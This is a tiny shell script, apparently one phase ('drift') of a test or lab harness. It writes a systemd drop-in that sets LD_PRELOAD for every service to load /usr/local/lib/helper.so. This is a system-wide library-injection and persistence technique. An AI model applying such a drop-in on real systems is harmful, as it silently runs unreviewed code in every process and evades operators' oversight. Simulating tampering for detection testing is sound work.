# HALLMARK_PHASE=drift
sh "$HALLMARK_CONTROL/apply.sh"
mkdir -p /etc/systemd/system.conf.d
printf '[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/local/lib/helper.so\n' >/etc/systemd/system.conf.d/zz.conf
